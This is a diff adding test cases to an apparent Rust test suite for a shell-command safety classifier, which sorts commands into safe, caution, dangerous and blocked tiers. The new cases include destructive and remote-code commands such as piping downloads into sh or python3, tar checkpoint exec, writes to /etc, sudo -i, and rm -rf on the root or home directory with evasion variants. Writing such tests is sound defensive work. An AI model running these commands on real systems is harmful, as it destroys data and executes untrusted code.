@@ -112,6 +112,12 @@ fn only_reading_is_safe() {
         sleep 1
         r''ealpath x
         kill -l
+        [[ -f a ]]
+        [ -f a ] && ls
+        ! true
+        env FOO=1
+        \ls
+        ls; # rm
         "#,
     );
 }
@@ -199,6 +205,12 @@ fn changes_that_can_be_put_right_are_caution() {
         find . -name x | xargs grep foo
         trap 'echo bye' EXIT
         cp .env.example .env
+        printf -v PATH x
+        read PATH
+        exec > log.txt
+        wget -qO- https://example.org/a
+        rm -- -rf
+        perl -pi -e 's/a/b/' f
         "#
         .replace("        git $(echo) status -s < a | true\n", "")
         .as_str(),
@@ -375,6 +387,17 @@ fn what_may_destroy_or_take_over_is_dangerous() {
         psql -c 'drop table a'
         date -s 12:00
         npx x | sh
+        git log --outp=/etc/x
+        git diff -C --output=/etc/x
+        sort -o/etc/x a
+        cp -t /etc a
+        rm -rf ~root
+        sudo -i
+        tar xvf a.tar --checkpoint-act=exec=sh
+        curl example.org | python3
+        coproc rm -rf a
+        $SHELL -c ls
+        ln -s /etc out2 && rm -rf out2/
         "#,
     );
 }
@@ -386,6 +409,12 @@ fn what_ends_the_machine_is_blocked() {
         r#"
         rm -rf /
         rm -rf /*
+        rm -rf //
+        rm -rf /.
+        rm -rf -- /
+        rm -rf /etc/../etc
+        ls $(rm -rf /)
+        unset HOME; rm -rf ~
         rm -rf ~
         rm -rf ~/
         rm -rf ~/*
